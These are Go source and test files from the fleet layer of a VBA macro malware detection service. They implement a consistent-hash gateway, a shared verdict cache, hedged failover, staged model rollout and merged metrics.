			break
		}
	}
	resp.Target = adopted
	// Re-probe so routing state (healthy/skewed) reflects the new world
	// before the response goes out — the caller can immediately trust
	// /healthz.
	g.Probe(ctx)
	if resp.Status == "aborted" {
		writeJSON(w, http.StatusConflict, resp)
		return
	}
	writeJSON(w, http.StatusOK, resp)
}

// rolloutOne reloads one backend and verifies its post-reload identity
// against the rollout target (set by the first reloaded backend).
func (g *Gateway) rolloutOne(ctx context.Context, b *backend,
	target **struct {
		key string
		id  string
	}) rolloutStep {
	step := rolloutStep{Backend: b.name}
	st, _, _, _ := b.snapshot()
	if st == stateUnhealthy || st == stateDraining {
		// Don't wake an already-unroutable node; the rollout report says
		// so and the operator reloads it by hand once it's back.
		step.Status = "skipped"
		step.Error = "backend " + st.String() + "; reload it manually when routable"
		return step
	}
	b.setState(stateRolling, "staged rollout in progress")
	rctx, cancel := context.WithTimeout(ctx, g.cfg.RolloutTimeout)
	defer cancel()
	if err := g.postReload(rctx, b); err != nil {
		b.setState(stateUnhealthy, "rollout reload failed: "+err.Error())
		step.Status = "failed"
		step.Error = err.Error()
		return step
	}
	pctx, pcancel := context.WithTimeout(ctx, g.cfg.ProbeTimeout)
	defer pcancel()
	if err := b.probe(pctx, g.probeClient); err != nil {
		step.Status = "failed"
		step.Error = "post-reload probe: " + err.Error()
		return step
	}
	_, _, id, has := b.snapshot()
	if !has {
		step.Status = "failed"
		step.Error = "post-reload identity unavailable"
		return step
	}
	step.ModelSHA256 = id.ModelSHA256
	step.FeatureSet = id.FeatureSet
	key := identityKey(id)
	if *target == nil {
		*target = &struct {
			key string
			id  string
		}{key: key, id: shortSHA(id.ModelSHA256)}
		// Promote: the fleet target flips to the new identity now, so the
		// shared verdict tier's salt changes and pre-rollout verdicts can
		// no longer answer.
		idCopy := id
		g.target.Store(&idCopy)
		g.log.Info("rollout promoted fleet target", "model", shortSHA(id.ModelSHA256),
			"feature_set", id.FeatureSet, "backend", b.name)
	} else if key != (*target).key {
		b.setState(stateSkewed, fmt.Sprintf("post-rollout model %s != rollout target %s",
			shortSHA(id.ModelSHA256), (*target).id))
		g.metrics.SkewRefusals.Add(1)
		step.Status = "skewed"
		step.Error = fmt.Sprintf("reloaded to model %s, rollout target is %s — check the model file on this node",
			shortSHA(id.ModelSHA256), (*target).id)
		return step
	}
	step.Status = "reloaded"
	return step
}

// postReload invokes the backend's own admin reload.
func (g *Gateway) postReload(ctx context.Context, b *backend) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, b.base+"/v1/admin/reload", nil)
	if err != nil {
		return err
	}
	resp, err := g.scanClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		var e struct {
			Error string `json:"error"`
		}
		_ = json.NewDecoder(resp.Body).Decode(&e)
		return fmt.Errorf("reload returned %d: %s", resp.StatusCode, strings.TrimSpace(e.Error))
	}
	// Give the node a beat to finish swapping before the identity probe;
	// Reload itself is synchronous, this just avoids racing its readiness
	// bookkeeping under load.
	select {
	case <-time.After(10 * time.Millisecond):
	case <-ctx.Done():
		return ctx.Err()
	}
	return nil
}

func firstNonEmpty(a, b string) string {
	if a != "" {
		return a
	}
	return b
}
