package fleet

import (
	"bytes"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/server"
)

// e2eFixture trains one detector, saves its model and keeps synthetic
// documents — built once for the package, shared by the e2e tests.
var e2eFixture = struct {
	once      sync.Once
	modelPath string
	docs      [][]byte
	err       error
}{}

func e2eModel(t *testing.T) (string, [][]byte) {
	t.Helper()
	e2eFixture.once.Do(func() {
		fail := func(err error) { e2eFixture.err = err }
		spec := corpus.SmallSpec()
		spec.BenignMacros, spec.BenignObfuscated = 120, 20
		spec.MaliciousMacros, spec.MaliciousObfuscated = 60, 55
		spec.BenignMaxLen = 4000
		d := corpus.GenerateMacros(spec)
		det, err := core.NewDetector(core.AlgoRF, core.FeatureSetV, 7)
		if err != nil {
			fail(err)
			return
		}
		if err := det.Train(d.Sources(), d.Labels()); err != nil {
			fail(err)
			return
		}
		blob, err := det.SaveModel()
		if err != nil {
			fail(err)
			return
		}
		dir, err := os.MkdirTemp("", "fleet-e2e")
		if err != nil {
			fail(err)
			return
		}
		e2eFixture.modelPath = filepath.Join(dir, "model.json")
		if err := os.WriteFile(e2eFixture.modelPath, blob, 0o644); err != nil {
			fail(err)
			return
		}
		files, err := d.BuildFiles()
		if err != nil {
			fail(err)
			return
		}
		for _, f := range files {
			e2eFixture.docs = append(e2eFixture.docs, f.Data)
		}
	})
	if e2eFixture.err != nil {
		t.Fatal(e2eFixture.err)
	}
	return e2eFixture.modelPath, e2eFixture.docs
}

// realBackend is one actual vbadetectd server.Server on a test listener,
// with a middleware counter proving how many scans reached it.
type realBackend struct {
	srv   *server.Server
	ts    *httptest.Server
	scans atomic.Int64
}

func newRealBackend(t *testing.T, modelPath string) *realBackend {
	t.Helper()
	srv, err := server.NewFromModelFile(modelPath, quietServerConfig())
	if err != nil {
		t.Fatal(err)
	}
	rb := &realBackend{srv: srv}
	inner := srv.Handler()
	rb.ts = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost && r.URL.Path == "/v1/scan" {
			rb.scans.Add(1)
		}
		inner.ServeHTTP(w, r)
	}))
	t.Cleanup(func() {
		rb.ts.Close()
		_ = srv.Close()
	})
	return rb
}

func quietServerConfig() server.Config {
	return server.Config{Logger: slog.New(slog.NewTextHandler(io.Discard, nil))}
}

// TestE2EFleetIdentity is acceptance (a) + (b): gateway verdicts are
// byte-identical to a direct single-node scan, and a repeat document is
// answered from the shared tier with every backend's scan counter
// unchanged.
func TestE2EFleetIdentity(t *testing.T) {
	if testing.Short() {
		t.Skip("e2e fleet test in -short mode")
	}
	modelPath, docs := e2eModel(t)
	b1 := newRealBackend(t, modelPath)
	b2 := newRealBackend(t, modelPath)
	cfg := quietGatewayConfig()
	cfg.Backends = []string{b1.ts.URL, b2.ts.URL}
	_, ts := newTestGateway(t, cfg)

	if len(docs) < 20 {
		t.Fatalf("fixture produced only %d docs", len(docs))
	}
	docs = docs[:20]

	// (a) Byte-identical reports: direct node scan vs gateway scan.
	for i, doc := range docs {
		direct, err := http.Post(b1.ts.URL+"/v1/scan", "application/octet-stream", bytes.NewReader(doc))
		if err != nil {
			t.Fatal(err)
		}
		var dr gatewayScanResponse
		if err := json.NewDecoder(direct.Body).Decode(&dr); err != nil {
			t.Fatal(err)
		}
		direct.Body.Close()
		if direct.StatusCode != http.StatusOK {
			t.Fatalf("direct scan %d = %d", i, direct.StatusCode)
		}
		resp, gr := gwScan(t, ts.URL, doc)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("gateway scan %d = %d", i, resp.StatusCode)
		}
		if !bytes.Equal(dr.Report, gr.Report) {
			t.Fatalf("doc %d: gateway report differs from single-node report\n direct=%s\ngateway=%s",
				i, dr.Report, gr.Report)
		}
		if dr.NoMacros != gr.NoMacros {
			t.Fatalf("doc %d: no_macros direct=%v gateway=%v", i, dr.NoMacros, gr.NoMacros)
		}
	}

	// (b) Repeat scans come from the shared tier: backend counters frozen.
	before1, before2 := b1.scans.Load(), b2.scans.Load()
	for i, doc := range docs {
		resp, gr := gwScan(t, ts.URL, doc)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("repeat scan %d = %d", i, resp.StatusCode)
		}
		if !gr.SharedCache {
			t.Errorf("repeat scan %d not served from the shared tier", i)
		}
	}
	if a, b := b1.scans.Load(), b2.scans.Load(); a != before1 || b != before2 {
		t.Errorf("repeat pass touched backends: scans %d/%d -> %d/%d", before1, before2, a, b)
	}
}

// TestE2EFleetFailover is acceptance (c): with two backends under
// concurrent load, hard-killing one mid-stream (listener torn down,
// in-flight connections reset — the kill -9 shape) completes every
// request via hedged failover with zero 5xx.
func TestE2EFleetFailover(t *testing.T) {
	if testing.Short() {
		t.Skip("e2e fleet test in -short mode")
	}
	modelPath, docs := e2eModel(t)
	b1 := newRealBackend(t, modelPath)
	b2 := newRealBackend(t, modelPath)
	cfg := quietGatewayConfig()
	cfg.Backends = []string{b1.ts.URL, b2.ts.URL}
	cfg.CacheEntries = -1                  // every request must actually route
	cfg.HedgeAfter = 50 * time.Millisecond // a stalled victim connection hedges fast
	_, ts := newTestGateway(t, cfg)

	const workers = 8
	const perWorker = 25
	var failures atomic.Int64
	var completed atomic.Int64
	var wg sync.WaitGroup
	killed := make(chan struct{})
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				doc := docs[(w*perWorker+i)%len(docs)]
				resp, err := http.Post(ts.URL+"/v1/scan", "application/octet-stream", bytes.NewReader(doc))
				if err != nil {
					failures.Add(1)
					t.Errorf("worker %d scan %d: %v", w, i, err)
					continue
				}
				if resp.StatusCode != http.StatusOK {
					failures.Add(1)
					t.Errorf("worker %d scan %d: status %d after kill=%v", w, i, resp.StatusCode, isClosed(killed))
				}
				resp.Body.Close()
				completed.Add(1)
			}
		}(w)
	}
	// Let the load ramp, then hard-kill backend 2: close its listener and
	// reset every open connection without draining (kill -9 semantics —
	// httptest.Server.Close would politely wait for in-flight requests).
	time.Sleep(150 * time.Millisecond)
	b2.ts.Listener.Close()
	b2.ts.CloseClientConnections()
	close(killed)
	wg.Wait()

	if got := completed.Load(); got != workers*perWorker {
		t.Errorf("completed %d/%d requests", got, workers*perWorker)
	}
	if got := failures.Load(); got != 0 {
		t.Errorf("%d requests failed across the backend kill, want 0", got)
	}
	if b1.scans.Load() == 0 {
		t.Error("surviving backend served no scans")
	}
}

func isClosed(ch chan struct{}) bool {
	select {
	case <-ch:
		return true
	default:
		return false
	}
}

// TestE2EGatewayModelEndpoint: the gateway's /v1/model reports the same
// identity as the backends' own — gateways compose with skew tooling.
func TestE2EGatewayModelEndpoint(t *testing.T) {
	if testing.Short() {
		t.Skip("e2e fleet test in -short mode")
	}
	modelPath, _ := e2eModel(t)
	b1 := newRealBackend(t, modelPath)
	cfg := quietGatewayConfig()
	cfg.Backends = []string{b1.ts.URL}
	_, ts := newTestGateway(t, cfg)

	want := fetchModel(t, b1.ts.URL)
	got := fetchModel(t, ts.URL)
	if want.ModelSHA256 == "" || got.ModelSHA256 != want.ModelSHA256 {
		t.Errorf("gateway model %q != backend model %q", got.ModelSHA256, want.ModelSHA256)
	}
	if got.FeatureSetID != want.FeatureSetID {
		t.Errorf("gateway feature_set_id %q != backend %q", got.FeatureSetID, want.FeatureSetID)
	}
}

func fetchModel(t *testing.T, base string) server.ModelResponse {
	t.Helper()
	resp, err := http.Get(base + "/v1/model")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s/v1/model = %d", base, resp.StatusCode)
	}
	var mr server.ModelResponse
	if err := json.NewDecoder(resp.Body).Decode(&mr); err != nil {
		t.Fatal(err)
	}
	return mr
}
