// Fleet-wide /metrics: one scrape of the gateway yields the gateway's own
// families plus every backend's families, relabeled with backend="name".
// A single Prometheus target therefore observes the whole fleet — the
// per-backend scan counters, cache hit ratios and queue depths keep their
// daemon names, distinguished by the backend label.

package fleet

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"sort"
	"strings"
	"sync"
)

func (g *Gateway) handleMetrics(w http.ResponseWriter, r *http.Request) {
	if r.URL.Query().Get("format") != "prometheus" {
		w.Header().Set("Content-Type", "application/json; charset=utf-8")
		_ = g.metrics.reg.WriteJSON(w)
		return
	}
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	_, _ = w.Write(g.mergedExposition(r))
}

// promFamily accumulates one merged family: the first-seen HELP/TYPE
// comments and every sample line from every source, in source order
// (gateway first, then backends sorted by name).
type promFamily struct {
	name    string
	help    string
	typ     string
	samples []string
}

// mergedExposition renders the gateway registry and concurrently scrapes
// each backend's Prometheus exposition, merging families by name. Backend
// sample lines gain a backend="name" label; HELP and TYPE are emitted
// once per family (identical across backends by construction — they run
// the same binary; on skew the first-seen declaration wins). A backend
// that fails to scrape is skipped and counted in fleet_scrape_errors, so
// one dead node can't take down fleet observability.
func (g *Gateway) mergedExposition(r *http.Request) []byte {
	type scrape struct {
		name string
		body []byte
		err  error
	}
	scrapes := make([]scrape, len(g.backends))
	var wg sync.WaitGroup
	for i, b := range g.backends {
		wg.Add(1)
		go func(i int, b *backend) {
			defer wg.Done()
			ctx, cancel := context.WithTimeout(r.Context(), g.cfg.ProbeTimeout)
			defer cancel()
			status, body, _, err := get(ctx, g.scanClient, b.base+"/metrics?format=prometheus")
			if err == nil && status != http.StatusOK {
				err = fmt.Errorf("metrics scrape returned %d", status)
			}
			scrapes[i] = scrape{name: b.name, body: body, err: err}
		}(i, b)
	}
	var own bytes.Buffer
	_ = g.metrics.reg.WritePrometheus(&own)
	wg.Wait()

	order := []string{}
	fams := map[string]*promFamily{}
	ingest := func(src []byte, backendName string) {
		for _, line := range strings.Split(string(src), "\n") {
			line = strings.TrimRight(line, "\r")
			if strings.TrimSpace(line) == "" {
				continue
			}
			if strings.HasPrefix(line, "#") {
				fields := strings.Fields(line)
				if len(fields) < 3 {
					continue
				}
				fam := getFamily(fams, &order, fields[2])
				switch fields[1] {
				case "HELP":
					if fam.help == "" {
						fam.help = line
					}
				case "TYPE":
					if fam.typ == "" {
						fam.typ = line
					}
				}
				continue
			}
			name := sampleFamilyName(line)
			if name == "" {
				continue
			}
			fam := getFamily(fams, &order, name)
			if backendName != "" {
				line = injectLabel(line, "backend", backendName)
			}
			fam.samples = append(fam.samples, line)
		}
	}
	ingest(own.Bytes(), "")
	idx := make([]int, len(scrapes))
	for i := range idx {
		idx[i] = i
	}
	sort.Slice(idx, func(a, b int) bool { return scrapes[idx[a]].name < scrapes[idx[b]].name })
	for _, i := range idx {
		s := scrapes[i]
		if s.err != nil {
			g.metrics.ScrapeErrors.Add(1)
			g.log.Warn("backend metrics scrape failed", "backend", s.name, "error", s.err.Error())
			continue
		}
		ingest(s.body, s.name)
	}

	var out bytes.Buffer
	for _, name := range order {
		fam := fams[name]
		if len(fam.samples) == 0 {
			continue
		}
		if fam.help != "" {
			out.WriteString(fam.help)
			out.WriteByte('\n')
		}
		if fam.typ != "" {
			out.WriteString(fam.typ)
			out.WriteByte('\n')
		}
		for _, s := range fam.samples {
			out.WriteString(s)
			out.WriteByte('\n')
		}
	}
	return out.Bytes()
}

func getFamily(fams map[string]*promFamily, order *[]string, name string) *promFamily {
	if f, ok := fams[name]; ok {
		return f
	}
	f := &promFamily{name: name}
	fams[name] = f
	*order = append(*order, name)
	return f
}

// sampleFamilyName extracts the family a sample line belongs to: the
// metric name up to '{' or the value separator, with the histogram
// _bucket/_sum/_count suffixes folded into their base family so all three
// group under one TYPE declaration.
func sampleFamilyName(line string) string {
	end := strings.IndexAny(line, "{ ")
	if end <= 0 {
		return ""
	}
	name := line[:end]
	for _, suffix := range []string{"_bucket", "_sum", "_count"} {
		name = strings.TrimSuffix(name, suffix)
	}
	return name
}

// injectLabel adds key="value" to a sample line, merging into an existing
// label set or creating one. Label values are escaped per the exposition
// format (backslash, quote, newline).
func injectLabel(line, key, value string) string {
	esc := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`).Replace(value)
	if i := strings.Index(line, "{"); i >= 0 {
		return line[:i+1] + key + `="` + esc + `",` + line[i+1:]
	}
	i := strings.Index(line, " ")
	if i < 0 {
		return line
	}
	return line[:i] + "{" + key + `="` + esc + `"}` + line[i:]
}
