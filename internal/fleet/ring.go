// Package fleet is the horizontal-scale layer: an HTTP gateway that
// fronts N vbadetectd backends behind a consistent-hash ring, with a
// fleet-wide shared verdict cache, hedged retries, health-checked backend
// pools and staged model rollout.
//
// Routing is content-addressed: the document SHA-256 that already keys
// the per-node verdict caches (internal/cache) also picks the backend, so
// each backend's local doc/macro caches stay hot for its shard of the
// content space. Repeat documents — the dominant traffic in attachment
// scanning (MEADE; Casino et al. on campaign re-sends) — are answered
// from the gateway's shared verdict tier without touching any backend.
package fleet

import (
	"crypto/sha256"
	"encoding/binary"
	"sort"
	"strconv"
	"sync/atomic"
)

// DefaultVNodes is the virtual-node count per backend. 128 vnodes keeps
// the worst-case key imbalance across 2–16 nodes within ~25% of the mean
// (see TestRingDistribution) while membership changes stay O(vnodes·log).
const DefaultVNodes = 128

// Ring is a consistent-hash ring over named nodes with virtual nodes.
// Lookups walk clockwise from the key's hash; membership updates swap an
// immutable state snapshot, so routing never blocks on (or races with) a
// concurrent SetNodes — a reader sees either the old ring or the new one,
// both internally consistent.
type Ring struct {
	vnodes int
	state  atomic.Pointer[ringState]
}

// ringState is one immutable ring snapshot.
type ringState struct {
	nodes  []string
	hashes []uint64 // sorted vnode positions
	owner  []int32  // hashes[i] belongs to nodes[owner[i]]
}

// NewRing builds an empty ring with the given virtual-node count per node
// (<= 0 applies DefaultVNodes).
func NewRing(vnodes int) *Ring {
	if vnodes <= 0 {
		vnodes = DefaultVNodes
	}
	r := &Ring{vnodes: vnodes}
	r.state.Store(&ringState{})
	return r
}

// SetNodes replaces the ring membership. The vnode positions of a node
// depend only on its name, so nodes that stay keep their arcs: adding or
// removing one node moves only the ~K/n keys adjacent to its vnodes
// (TestRingMovement pins this bound).
func (r *Ring) SetNodes(nodes []string) {
	st := &ringState{nodes: append([]string(nil), nodes...)}
	n := len(st.nodes) * r.vnodes
	st.hashes = make([]uint64, 0, n)
	st.owner = make([]int32, 0, n)
	type point struct {
		hash  uint64
		owner int32
	}
	points := make([]point, 0, n)
	for i, node := range st.nodes {
		for v := 0; v < r.vnodes; v++ {
			points = append(points, point{vnodeHash(node, v), int32(i)})
		}
	}
	sort.Slice(points, func(a, b int) bool {
		if points[a].hash != points[b].hash {
			return points[a].hash < points[b].hash
		}
		// Identical vnode positions (astronomically unlikely with SHA-256,
		// but possible with duplicate node names): lower index wins, so the
		// order is deterministic.
		return points[a].owner < points[b].owner
	})
	for _, p := range points {
		st.hashes = append(st.hashes, p.hash)
		st.owner = append(st.owner, p.owner)
	}
	r.state.Store(st)
}

// Nodes returns the current membership (shared slice; do not mutate).
func (r *Ring) Nodes() []string { return r.state.Load().nodes }

// vnodeHash places one virtual node: SHA-256 of "name#index", truncated.
// SHA-256 keeps placement uniform and identical across processes, so a
// gateway restart (or a second gateway) routes the same keys to the same
// backends.
func vnodeHash(node string, v int) uint64 {
	sum := sha256.Sum256([]byte(node + "#" + strconv.Itoa(v)))
	return binary.BigEndian.Uint64(sum[:8])
}

// keyHash positions a content key on the ring. The key is already a
// SHA-256 (the document hash), so its leading bytes are uniform.
func keyHash(key [32]byte) uint64 { return binary.BigEndian.Uint64(key[:8]) }

// Owner returns the key's primary node, or "" on an empty ring.
func (r *Ring) Owner(key [32]byte) string {
	c := r.Candidates(key, 1)
	if len(c) == 0 {
		return ""
	}
	return c[0]
}

// Candidates returns up to max distinct nodes in ring order starting at
// the key's successor: the primary owner first, then each next-distinct
// node clockwise. The caller uses the tail for hedged retries and
// failover — the second candidate is "the next ring node" the hedge
// budget fires against.
func (r *Ring) Candidates(key [32]byte, max int) []string {
	st := r.state.Load()
	if len(st.hashes) == 0 || max <= 0 {
		return nil
	}
	if max > len(st.nodes) {
		max = len(st.nodes)
	}
	h := keyHash(key)
	i := sort.Search(len(st.hashes), func(j int) bool { return st.hashes[j] >= h })
	out := make([]string, 0, max)
	seen := make(map[int32]bool, max)
	for n := 0; n < len(st.hashes) && len(out) < max; n++ {
		p := st.owner[(i+n)%len(st.hashes)]
		if !seen[p] {
			seen[p] = true
			out = append(out, st.nodes[p])
		}
	}
	return out
}
