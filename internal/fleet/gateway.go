// The gateway: an HTTP coordinator fronting N vbadetectd backends.
//
// Request flow for POST /v1/scan:
//
//  1. Hash the document (the same SHA-256 that keys internal/cache).
//  2. Shared verdict tier: a repeat document anywhere in the fleet is
//     answered from the gateway's cache — zero backend work.
//  3. Consistent-hash routing: the content hash picks the backend, so
//     each backend's local doc/macro caches stay hot for its shard.
//     Bounded-load: a backend far above the mean in-flight load is
//     skipped for this request (the ring order is otherwise preserved).
//  4. Hedged retry: if the primary hasn't answered within the hedge
//     budget (p95 of recent fleet latency, or -hedge-after), the same
//     request is sent to the next ring node; first good answer wins.
//     Transport errors, 429/502/503 and Retry-After hints fail over the
//     same way, so a killed or saturated backend costs latency, not
//     availability.
package fleet

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"math"
	"net/http"
	"os"
	"runtime"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/cache"
	"repro/internal/server"
	"repro/internal/telemetry"
)

// Config tunes the gateway. Zero values take production defaults.
type Config struct {
	// Backends are the vbadetectd nodes, as "host:port" or full URLs.
	Backends []string
	// VNodes is the virtual-node count per backend (0 = DefaultVNodes).
	VNodes int
	// LoadBoundFactor is the bounded-load multiplier c: a backend whose
	// in-flight count exceeds ceil(c × mean) is skipped as primary for a
	// request (ring order otherwise preserved). 0 applies 1.25; negative
	// disables load bounding.
	LoadBoundFactor float64
	// HedgeAfter is the fixed hedge budget: how long the primary gets
	// before the same request is fired at the next ring node. 0 adapts to
	// the rolling p95 of fleet scan latency (clamped to [10ms, 2s]);
	// negative disables hedging (failover on failure still applies).
	HedgeAfter time.Duration
	// MaxAttempts bounds how many distinct backends one request may try
	// (primary + hedge + failover). 0 applies 3.
	MaxAttempts int
	// HealthInterval is the backend probe period. 0 applies 2s; negative
	// disables the background loop (Probe can still be called directly).
	HealthInterval time.Duration
	// ProbeTimeout bounds one health/identity probe. 0 applies 2s.
	ProbeTimeout time.Duration
	// ScanTimeout is the end-to-end deadline for one gateway scan,
	// covering every hedged attempt. 0 applies 60s.
	ScanTimeout time.Duration
	// RolloutTimeout bounds one backend's admin reload during a staged
	// rollout. 0 applies 120s.
	RolloutTimeout time.Duration
	// MaxBodyBytes caps a request body. 0 applies 32 MiB.
	MaxBodyBytes int64
	// CacheEntries / CacheBytes bound the shared verdict tier, exactly
	// like the daemon's flags: entries 0 = 65536 default, negative
	// disables the shared cache; bytes 0 = 512 MiB, negative unbounded.
	CacheEntries int
	CacheBytes   int64
	// Logger receives structured logs. Default: JSON to stderr.
	Logger *slog.Logger
}

func (c Config) withDefaults() Config {
	if c.VNodes <= 0 {
		c.VNodes = DefaultVNodes
	}
	if c.LoadBoundFactor == 0 {
		c.LoadBoundFactor = 1.25
	}
	if c.MaxAttempts <= 0 {
		c.MaxAttempts = 3
	}
	if c.HealthInterval == 0 {
		c.HealthInterval = 2 * time.Second
	}
	if c.ProbeTimeout <= 0 {
		c.ProbeTimeout = 2 * time.Second
	}
	if c.ScanTimeout <= 0 {
		c.ScanTimeout = 60 * time.Second
	}
	if c.RolloutTimeout <= 0 {
		c.RolloutTimeout = 120 * time.Second
	}
	if c.MaxBodyBytes <= 0 {
		c.MaxBodyBytes = 32 << 20
	}
	if c.Logger == nil {
		c.Logger = slog.New(slog.NewJSONHandler(os.Stderr, nil))
	}
	return c
}

// sharedVerdict is one shared-tier entry: the backend's report JSON kept
// raw so a repeat answer is byte-identical to the original scan's report.
type sharedVerdict struct {
	report   json.RawMessage
	noMacros bool
	backend  string
}

// Gateway coordinates the fleet.
type Gateway struct {
	cfg      Config
	log      *slog.Logger
	ring     *Ring
	backends []*backend
	byName   map[string]*backend

	// verdicts is the fleet-wide shared verdict tier, keyed by content
	// hash salted with the fleet target identity (feature-set ID + model
	// SHA) so a rollout invalidates by construction. Nil when disabled.
	verdicts *cache.Cache[sharedVerdict]

	// target is the fleet model identity every routable backend must
	// match. Adopted from the backend majority by the health loop, or set
	// explicitly by a completed rollout.
	target atomic.Pointer[server.ModelResponse]

	scanClient  *http.Client // hedged scan traffic (no client timeout; ctx-bound)
	probeClient *http.Client // health/identity probes

	lat     latencyTracker
	metrics *gatewayMetrics
	reqSeq  atomic.Uint64

	rolloutMu sync.Mutex // one staged rollout at a time

	stopOnce sync.Once
	stopCh   chan struct{}
	loopDone chan struct{}
}

// New builds a gateway over the configured backends. The health loop is
// not started yet — call Start (or drive Probe from tests).
func New(cfg Config) (*Gateway, error) {
	cfg = cfg.withDefaults()
	if len(cfg.Backends) == 0 {
		return nil, errors.New("fleet: no backends configured")
	}
	g := &Gateway{
		cfg:    cfg,
		log:    cfg.Logger,
		ring:   NewRing(cfg.VNodes),
		byName: make(map[string]*backend, len(cfg.Backends)),
		scanClient: &http.Client{Transport: &http.Transport{
			MaxIdleConns:        256,
			MaxIdleConnsPerHost: 64,
			IdleConnTimeout:     90 * time.Second,
		}},
		stopCh:   make(chan struct{}),
		loopDone: make(chan struct{}),
	}
	g.probeClient = &http.Client{Timeout: cfg.ProbeTimeout, Transport: g.scanClient.Transport}
	names := make([]string, 0, len(cfg.Backends))
	for _, addr := range cfg.Backends {
		b := newBackend(addr)
		if _, dup := g.byName[b.name]; dup {
			return nil, fmt.Errorf("fleet: duplicate backend %q", b.name)
		}
		g.backends = append(g.backends, b)
		g.byName[b.name] = b
		names = append(names, b.name)
	}
	g.ring.SetNodes(names)
	entries, bytesBound, enabled := sharedCacheBounds(cfg.CacheEntries, cfg.CacheBytes)
	if enabled {
		g.verdicts = cache.New[sharedVerdict](entries, bytesBound)
	}
	g.metrics = newGatewayMetrics(g)
	return g, nil
}

// sharedCacheBounds mirrors the daemon's cache flag semantics with
// fleet-sized defaults (the shared tier covers every backend's traffic).
func sharedCacheBounds(entries int, bytes int64) (int, int64, bool) {
	if entries < 0 {
		return 0, 0, false
	}
	if entries == 0 {
		entries = 65536
	}
	if bytes == 0 {
		bytes = 512 << 20
	}
	if bytes < 0 {
		bytes = 0
	}
	return entries, bytes, true
}

// Start launches the background health loop (no-op when disabled) after
// one synchronous probe pass so the first request already sees backend
// identities.
func (g *Gateway) Start() {
	g.Probe(context.Background())
	if g.cfg.HealthInterval < 0 {
		close(g.loopDone)
		return
	}
	go func() {
		defer close(g.loopDone)
		t := time.NewTicker(g.cfg.HealthInterval)
		defer t.Stop()
		for {
			select {
			case <-g.stopCh:
				return
			case <-t.C:
				g.Probe(context.Background())
			}
		}
	}()
}

// Close stops the health loop.
func (g *Gateway) Close() {
	g.stopOnce.Do(func() { close(g.stopCh) })
	<-g.loopDone
}

// Probe refreshes every backend's health and identity concurrently, then
// re-applies fleet skew policy.
func (g *Gateway) Probe(ctx context.Context) {
	var wg sync.WaitGroup
	for _, b := range g.backends {
		wg.Add(1)
		go func(b *backend) {
			defer wg.Done()
			pctx, cancel := context.WithTimeout(ctx, g.cfg.ProbeTimeout)
			defer cancel()
			_ = b.probe(pctx, g.probeClient)
		}(b)
	}
	wg.Wait()
	g.applySkewPolicy()
}

// applySkewPolicy resolves the fleet target identity and demotes any
// healthy backend whose identity differs: the gateway refuses to route to
// a skewed backend, because it would answer with a different model than
// the rest of the fleet (ErrFeatureSkew semantics at the fleet boundary).
// Without an explicit target (set by rollout), the majority identity among
// probed backends wins; ties break toward the first backend in config
// order, so the outcome is deterministic.
func (g *Gateway) applySkewPolicy() {
	type bucket struct {
		id    server.ModelResponse
		count int
		first int
	}
	buckets := map[string]*bucket{}
	for i, b := range g.backends {
		_, _, id, has := b.snapshot()
		if !has {
			continue
		}
		k := identityKey(id)
		if bk, ok := buckets[k]; ok {
			bk.count++
		} else {
			buckets[k] = &bucket{id: id, count: 1, first: i}
		}
	}
	target := g.target.Load()
	if target == nil {
		var best *bucket
		for _, bk := range buckets {
			if best == nil || bk.count > best.count || (bk.count == best.count && bk.first < best.first) {
				best = bk
			}
		}
		if best == nil {
			return // nothing probed yet
		}
		id := best.id
		target = &id
		g.target.Store(target)
		g.log.Info("fleet target adopted",
			"model", shortSHA(id.ModelSHA256), "feature_set", id.FeatureSet)
	}
	want := identityKey(*target)
	for _, b := range g.backends {
		st, _, id, has := b.snapshot()
		if !has {
			continue
		}
		if identityKey(id) != want {
			if st != stateSkewed {
				g.log.Warn("backend skewed from fleet target", "backend", b.name,
					"backend_model", shortSHA(id.ModelSHA256), "target_model", shortSHA(target.ModelSHA256))
				g.metrics.SkewRefusals.Add(1)
			}
			b.setState(stateSkewed, fmt.Sprintf("model %s != fleet target %s",
				shortSHA(id.ModelSHA256), shortSHA(target.ModelSHA256)))
		} else if st == stateSkewed {
			// Identity converged (e.g. operator reloaded it by hand).
			b.setState(stateHealthy, "")
		}
	}
}

func shortSHA(s string) string {
	if len(s) > 12 {
		return s[:12]
	}
	return s
}

// Target returns the fleet model identity, nil before the first probe.
func (g *Gateway) Target() *server.ModelResponse { return g.target.Load() }

// Handler builds the gateway's routing table wrapped in request logging.
func (g *Gateway) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/scan", g.handleScan)
	mux.HandleFunc("GET /v1/model", g.handleModel)
	mux.HandleFunc("POST /v1/admin/rollout", g.handleRollout)
	mux.HandleFunc("GET /healthz", g.handleHealthz)
	mux.HandleFunc("GET /readyz", g.handleReadyz)
	mux.HandleFunc("GET /metrics", g.handleMetrics)
	return g.withRequestLog(mux)
}

// withRequestLog mirrors the daemon's middleware: request IDs, W3C trace
// propagation (the gateway's span parents the backend's), structured logs
// and status metrics.
func (g *Gateway) withRequestLog(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		start := time.Now()
		id := r.Header.Get("X-Request-ID")
		if id == "" {
			id = fmt.Sprintf("gw-%06d", g.reqSeq.Add(1))
		}
		w.Header().Set("X-Request-ID", id)
		tc, _ := telemetry.ParseTraceparent(r.Header.Get("traceparent"))
